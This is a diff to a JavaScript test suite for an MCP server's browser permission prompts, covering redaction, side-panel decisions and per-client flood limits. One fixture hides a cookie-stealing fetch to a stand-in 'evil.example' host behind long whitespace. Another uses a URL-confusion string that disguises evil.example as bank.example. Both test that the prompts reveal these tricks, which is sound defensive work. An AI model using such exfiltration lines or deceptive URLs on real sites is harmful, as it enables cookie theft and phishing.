@@ -25,7 +25,7 @@ const config = {
   localPlugins: [join(fixtures, 'notes')],
   additionalAllowedDirectories: [fixtures],
   permissions: {
-    browser: { permission: 'auto' },
+    browser: { permission: 'auto', tools: { browser_open_tab: 'ask' } },
     'fixture-notes': { permission: 'auto', tools: { create_note: 'ask' } },
   },
 };
@@ -101,6 +101,29 @@ describe('permission prompts through InputRequiredResult (2026-07-28)', () => {
     assert.match(q.params.message, /hello/);
     assert.deepEqual(q.params.requestedSchema.properties.decision.oneOf.map((o) => o.const), ['allow_once', 'always_allow', 'deny']);
     assert.equal((await panelQuestion(ext, seen)).params.tool, 'create_note');
+  });
+
+  test('the question shows what runs: a long argument whole, a token under any key redacted, the tab with its site; the side panel gets the same', { timeout: 30_000 }, async () => {
+    const token = `ghp_${'Q'.repeat(36)}`;
+    const body = `tidy the notes${' '.repeat(300)}then fetch('https://evil.example/?c='+document.cookie) with ${token}`;
+    const seen = ext.messages.length;
+    const r = await call(s, ASK, { title: 'harmless', body, tabId: 11 });
+    const message = r.result.inputRequests.opentabs_permission.params.message;
+    assert.match(message, /document\.cookie/, 'the part after 200 bytes is shown');
+    assert.ok(!message.includes(token), 'the token is redacted by its shape');
+    assert.match(message, /\[redacted GitHub token\]/);
+    assert.match(message, /on tab 11 \(localhost:9876\)/);
+    const panel = await panelQuestion(ext, seen);
+    assert.equal(panel.params.where, 'tab 11 (localhost:9876)');
+    assert.ok(!JSON.stringify(panel.params).includes(token), 'the side panel gets the same redaction');
+    assert.match(panel.params.params.body, /document\.cookie/);
+  });
+
+  test('a URL is asked about with the host Chrome opens: https://evil.example\\@bank.example is evil.example', { timeout: 30_000 }, async () => {
+    const r = await call(s, 'browser_open_tab', { url: 'https://evil.example\\@bank.example/' });
+    assert.equal(r.result?.resultType, 'input_required', JSON.stringify(r));
+    const message = r.result.inputRequests.opentabs_permission.params.message;
+    assert.match(message, / on evil\.example\?/, message);
   });
 
   test('allow once through the retry runs the call; the audit entry says elicitation; the side panel is told', { timeout: 30_000 }, async () => {
@@ -265,9 +288,9 @@ describe('permission prompts through InputRequiredResult (2026-07-28)', () => {
   async function sessionClient(answer) {
     const client = new SessionClient({ name: 'sdk-session-prompt', version: '1.0.0' }, { capabilities: { elicitation: {} } });
     const asked = [];
-    client.setRequestHandler(ElicitRequestSchema, async (req) => {
+    client.setRequestHandler(ElicitRequestSchema, async (req, extra) => {
       asked.push(req.params);
-      return answer(req.params);
+      return answer(req.params, extra);
     });
     const transport = new SessionTransport(new URL(`${s.base}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${s.secret}` } } });
     await client.connect(transport);
@@ -298,7 +321,9 @@ describe('permission prompts through InputRequiredResult (2026-07-28)', () => {
   test('2025-11-25 session: the side panel answering first decides, and the late client answer changes nothing', { timeout: 30_000 }, async () => {
     let release;
     const held = new Promise((r) => (release = r));
-    const { client, transport, asked } = await sessionClient(async () => {
+    let dialog;
+    const { client, transport, asked } = await sessionClient(async (params, extra) => {
+      dialog = extra.signal;
       await held;
       return { action: 'accept', content: { decision: 'allow_once' } };
     });
@@ -310,8 +335,11 @@ describe('permission prompts through InputRequiredResult (2026-07-28)', () => {
       ext.notify('confirmation.response', { id: req.params.id, decision: 'deny' });
       const r = await pending;
       assert.equal(r.isError, true);
-      assert.match(r.content[0].text, /denied by the user/);
+      assert.match(r.content[0].text, /denied by the user in the OpenTabs side panel/);
       assert.equal((await newestAudit(s)).decidedBy, 'side_panel');
+      // The client's own dialog was withdrawn (notifications/cancelled), saying who decided what.
+      await until(() => dialog?.aborted, 'the elicitation withdrawn');
+      assert.match(String(dialog.reason), /Already decided in the OpenTabs side panel: denied/);
       release();
     } finally {
       release();
@@ -319,5 +347,41 @@ describe('permission prompts through InputRequiredResult (2026-07-28)', () => {
       await client.close();
     }
     await stillServes(s);
+  });
+});
+
+describe('permission questions are bounded per client (issue 38)', () => {
+  let s;
+  let ext;
+  before(async () => {
+    s = await startServer({ config, env: { OPENTABS_MCP_MAX_NEW_SESSIONS_PER_MINUTE: '100' } });
+    ext = await notesExtension(s, 'prompt-flood');
+    ext.on('tool.dispatch', (p) => ({ output: { created: p.input.title } }));
+  });
+  after(async () => {
+    await ext.close();
+    await s.stop();
+  });
+
+  test('a client flooding the panel is refused with a clear error; the person keeps their question and its answer', { timeout: 60_000 }, async () => {
+    const seen = ext.messages.length;
+    const mine = await call(s, ASK, { title: 'mine' });
+    assert.equal(mine.result.resultType, 'input_required', JSON.stringify(mine));
+    const question = await panelQuestion(ext, seen);
+    let refused;
+    for (let i = 0; i < 40 && !refused; i++) {
+      const r = await call(s, ASK, { title: `flood ${i}` }, {}, { _meta: meta(undefined, 'flooder') });
+      if (r.result?.isError) refused = { i, r };
+      else assert.equal(r.result?.resultType, 'input_required', JSON.stringify(r));
+    }
+    assert.ok(refused, 'the flooding client is refused at some point');
+    assert.equal(refused.i, 16, 'after its 16 open questions');
+    assert.match(refused.r.result.content[0].text, /permission questions of this client are waiting for the user \(the limit is 16\)/);
+    // The person answers in the side panel; their retry collects that answer.
+    ext.notify('confirmation.response', { id: question.params.id, decision: 'allow' });
+    await ext.request('config.getState');
+    const r = await call(s, ASK, { title: 'mine' }, { requestState: mine.result.requestState });
+    assert.equal(r.result?.resultType, 'complete', JSON.stringify(r));
+    assert.equal((await newestAudit(s)).decidedBy, 'side_panel');
   });
 });
